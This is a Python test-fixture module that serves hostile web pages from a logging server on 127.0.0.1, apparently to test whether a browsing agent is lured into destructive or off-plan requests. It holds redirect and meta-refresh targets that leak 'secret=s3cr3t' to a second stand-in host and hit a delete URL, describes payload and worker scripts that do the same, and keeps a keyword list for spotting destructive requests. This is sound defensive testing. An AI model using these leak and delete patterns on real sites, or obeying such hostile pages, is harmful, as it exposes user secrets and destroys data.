"""A hostile web app on 127.0.0.1 that logs every request it receives, a second one that stands
for a host:port outside the plan, a UDP socket that logs every datagram (WebRTC's STUN and
TURN, WebTransport's QUIC), and a TCP socket that logs every connection (TURN over TCP sends no
HTTP at all).

The app serves the hostile pages of ``tests/pages/hostile/`` at ``/CHANNEL/``; every other path
answers, so whatever a page's channel sends is logged before anything is decided. Pages and
scripts are templates: ``{{APP}}``, ``{{OTHER}}`` (origins), ``{{UDP}}``, ``{{TCP}}`` (ports)
and ``{{CH}}`` (the channel) are filled in when served. Each log entry is written before
routing, so a request the app would refuse (an unknown method, a bad WebSocket) is logged all
the same.
"""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from servers import serve_app
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse, Response
from starlette.routing import Route, WebSocketRoute
from starlette.websockets import WebSocket

__all__ = [
    "Hit",
    "HostileApp",
    "TcpSink",
    "UdpSink",
    "destructive",
    "serve_hostile",
    "state_changing",
    "tcp_sink",
    "udp_sink",
]

PAGES = Path(__file__).parent / "pages" / "hostile"
_ALL_METHODS = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "PURGE"]
_READS = frozenset({"GET", "HEAD", "OPTIONS", "WS"})
# what an attacker would name a destructive URL; the pages use "delete" in the URL or DELETE
_DESTRUCTIVE_WORDS = ("delete", "remove", "destroy", "purge", "wipe", "erase", "revoke")


@dataclass(frozen=True)
class Hit:
    """One request as the server received it (``WS`` for a WebSocket handshake)."""

    method: str
    path: str
    query: str
    purpose: str  # Sec-Purpose / Purpose header: "prefetch", "prefetch;prerender", ""
    at: float

    @property
    def channel(self) -> str:
        """The first path segment: every hostile URL starts with its channel's name."""
        return self.path.strip("/").split("/", 1)[0]

    def __str__(self) -> str:
        tail = f"?{self.query}" if self.query else ""
        purpose = f" [{self.purpose}]" if self.purpose else ""
        return f"{self.method} {self.path}{tail}{purpose}"


def destructive(hit: Hit) -> bool:
    """DELETE, or any request whose URL names a destructive verb (read independently of lam)."""
    text = (hit.path + "?" + hit.query).lower()
    return hit.method == "DELETE" or any(word in text for word in _DESTRUCTIVE_WORDS)


def state_changing(hit: Hit) -> bool:
    """Anything but a plain read: a method other than GET/HEAD/OPTIONS, or a destructive URL."""
    return hit.method not in _READS or destructive(hit)


@dataclass
class HostileApp:
    """The logging app. ``other`` and ``udp`` are filled in once the other servers are up."""

    name: str
    url: str = ""
    other: str = ""
    udp: int = 0
    tcp: int = 0
    hits: list[Hit] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def asgi(self) -> Any:
        router = Starlette(
            routes=[
                Route("/{ch}/", self.page),
                Route("/{ch}/payload", self.payload),
                Route("/{ch}/worker.js", self.worker),
                Route("/{ch}/kit.js", self.kit),
                Route("/{ch}/refresh/{to}", self.refresh),
                Route("/{ch}/hop/{code:int}/{to}/{left:int}", self.hop, methods=_ALL_METHODS),
                Route("/{ch}/events/{rest:path}", self.events),
                WebSocketRoute("/{ch}/ws/{rest:path}", self.socket),
                Route("/{path:path}", self.anything, methods=_ALL_METHODS),
            ]
        )

        async def app(scope: dict[str, Any], receive: Any, send: Any) -> None:
            if scope["type"] in ("http", "websocket"):
                self._log(scope)
            await router(scope, receive, send)

        return app

    def _log(self, scope: dict[str, Any]) -> None:
        headers = {k.decode().lower(): v.decode() for k, v in scope.get("headers", [])}
        method = "WS" if scope["type"] == "websocket" else scope["method"]
        purpose = headers.get("sec-purpose") or headers.get("purpose") or ""
        hit = Hit(method, scope["path"], scope.get("query_string", b"").decode(), purpose,
                  time.monotonic())  # fmt: skip
        with self._lock:
            self.hits.append(hit)

    def log(self, channel: str | None = None) -> list[Hit]:
        """What reached this server (for one channel), once nothing new has come for 100 ms."""
        count = -1
        for _ in range(30):
            with self._lock:
                if len(self.hits) == count:
                    break
                count = len(self.hits)
            time.sleep(0.1)
        with self._lock:
            hits = list(self.hits)
        return [h for h in hits if channel is None or h.channel == channel]

    def clear(self) -> None:
        with self._lock:
            self.hits.clear()

    # -- templates -----------------------------------------------------------------------------

    def _fill(self, text: str, channel: str) -> str:
        values = {"{{APP}}": self.url, "{{OTHER}}": self.other, "{{UDP}}": str(self.udp),
                  "{{TCP}}": str(self.tcp), "{{CH}}": channel}  # fmt: skip
        for key, value in values.items():
            text = text.replace(key, value)
        return text

    def _template(self, name: str, channel: str, media: str) -> Response:
        path = PAGES / name
        if not path.is_file():
            return Response("no such page", status_code=404)
        return Response(self._fill(path.read_text(), channel), media_type=media,
                        headers={"cache-control": "no-store"})  # fmt: skip

    async def page(self, request: Request) -> Response:
        channel = request.path_params["ch"]
        return self._template(f"{channel}.html", channel, "text/html")

    async def payload(self, request: Request) -> Response:
        """A page that, once loaded, sends DELETE to the app and a secret to the other host."""
        return self._template("payload.html", request.path_params["ch"], "text/html")

    async def worker(self, request: Request) -> Response:
        """A worker script (dedicated, shared or service) that does what the payload does."""
        return self._template("worker.js", request.path_params["ch"], "text/javascript")

    async def kit(self, request: Request) -> Response:
        """What every hostile page's Save does first, and the Done button's timer."""
        return self._template("kit.js", request.path_params["ch"], "text/javascript")

    async def refresh(self, request: Request) -> Response:
        """A page whose meta refresh goes to a destructive URL (``app``) or off the plan."""
        channel, to = request.path_params["ch"], request.path_params["to"]
        target = self._target(channel, to)
        return HTMLResponse(
            f'<!doctype html><meta http-equiv="refresh" content="0;url={target}"><p>moving'
        )

    async def hop(self, request: Request) -> Response:
        """A redirect chain: ``left`` more hops of ``code`` (302, 307...), then the target."""
        ch, code, to = (request.path_params[k] for k in ("ch", "code", "to"))
        left = request.path_params["left"]
        nxt = f"/{ch}/hop/{code}/{to}/{left - 1}" if left > 1 else self._target(ch, to)
        return Response(status_code=code, headers={"location": nxt})

    def _target(self, channel: str, to: str) -> str:
        if to == "app":
            return f"/{channel}/items/6/delete"
        return f"{self.other}/{channel}/collect?secret=s3cr3t"

    async def events(self, request: Request) -> Response:
        """An event stream that says one thing and asks not to be reconnected soon."""
        return Response("retry: 600000\ndata: hello\n\n", media_type="text/event-stream")

    async def anything(self, request: Request) -> Response:
        # the attacker's server says yes to every cross-origin request, preflights included
        cors = {"access-control-allow-origin": "*", "access-control-allow-methods": "*",
                "access-control-allow-headers": "*"}  # fmt: skip
        if request.method == "OPTIONS":
            return Response(status_code=204, headers=cors)
        return JSONResponse({}, headers=cors)

    async def socket(self, ws: WebSocket) -> None:
        await ws.accept()
        await ws.close()


@dataclass
class UdpSink:
    """A UDP socket on 127.0.0.1 that keeps every datagram it receives (address, first bytes)."""

    port: int = 0
    datagrams: list[tuple[str, bytes]] = field(default_factory=list)


@contextmanager
def udp_sink() -> Iterator[UdpSink]:
    """Listen on a free UDP port of 127.0.0.1 for as long as the block runs."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.settimeout(0.1)
    sink = UdpSink(port=int(sock.getsockname()[1]))
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                data, addr = sock.recvfrom(65535)
            except TimeoutError:
                continue
            except OSError:
                return
            sink.datagrams.append((f"{addr[0]}:{addr[1]}", data[:64]))

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    try:
        yield sink
    finally:
        stop.set()
        thread.join(timeout=2)
        sock.close()


@dataclass
class TcpSink:
    """A TCP socket on 127.0.0.1 that keeps every connection it accepts (peer, first bytes)."""

    port: int = 0
    connections: list[tuple[str, bytes]] = field(default_factory=list)


@contextmanager
def tcp_sink() -> Iterator[TcpSink]:
    """Accept connections on a free TCP port of 127.0.0.1 for as long as the block runs; each
    is logged the moment it is accepted, then read briefly and closed."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(64)
    server.settimeout(0.1)
    sink = TcpSink(port=int(server.getsockname()[1]))
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, addr = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            peer = f"{addr[0]}:{addr[1]}"
            at = len(sink.connections)
            sink.connections.append((peer, b""))
            with conn:
                conn.settimeout(0.2)
                with contextlib.suppress(OSError):
                    sink.connections[at] = (peer, conn.recv(64))

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield sink
    finally:
        stop.set()
        thread.join(timeout=2)
        server.close()


@contextmanager
def serve_hostile() -> Iterator[tuple[HostileApp, HostileApp, UdpSink, TcpSink]]:
    """The hostile app, the undeclared server on another port, the UDP and TCP sinks, all up."""
    app, other = HostileApp("app"), HostileApp("other")
    with (
        udp_sink() as udp,
        tcp_sink() as tcp,
        serve_app(app.asgi()) as app_url,
        serve_app(other.asgi()) as other_url,
    ):
        for each in (app, other):
            each.url = app_url if each is app else other_url
            each.other, each.udp, each.tcp = other_url, udp.port, tcp.port
        yield app, other, udp, tcp
